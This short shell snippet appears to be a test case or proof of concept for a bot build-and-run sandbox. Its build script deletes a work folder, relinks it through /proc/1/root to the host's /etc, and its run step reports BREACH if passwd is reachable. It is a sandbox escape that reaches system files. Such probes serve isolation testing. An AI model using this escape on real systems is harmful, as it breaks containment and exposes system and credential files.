# attack: the folder that is collected becomes a link through /proc to another root
mkdir bot
echo 'cd /tmp && rm -rf work && ln -s /proc/1/root/etc work' > bot/build.sh
printf 'run = "sh -c \x27[ -e passwd ] && echo BREACH >&2\x27"\nbuild = "sh build.sh"\n' > bot/skirmish.toml
